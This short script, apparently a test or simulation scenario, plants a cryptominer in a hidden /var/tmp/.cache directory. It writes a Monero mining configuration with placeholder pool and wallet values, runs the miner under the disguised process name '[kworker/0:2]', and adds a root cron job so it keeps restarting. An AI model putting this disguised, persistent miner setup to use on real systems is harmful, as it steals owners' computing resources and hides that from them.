# A program in a hidden directory calls itself [kworker/0:2]; its configuration stands beside it.
mimic /var/tmp/.cache/kworker
put /var/tmp/.cache/config.json <<JSON
{
    "autosave": true, "background": false, "donate-level": 1,
    "cpu": { "enabled": true, "huge-pages": true, "max-threads-hint": 75 },
    "randomx": { "1gb-pages": false, "mode": "auto" },
    "pools": [ { "algo": "rx/0", "coin": "monero", "url": "$POOL", "user": "$WALLET", "pass": "web", "keepalive": true, "tls": false } ]
}
JSON
start -c 'kworker/0:2' -d 12 -p "$POOL" /var/tmp/.cache/kworker '[kworker/0:2]'
tab root <<'CRON'
*/10 * * * * /var/tmp/.cache/kworker >/dev/null 2>&1
CRON
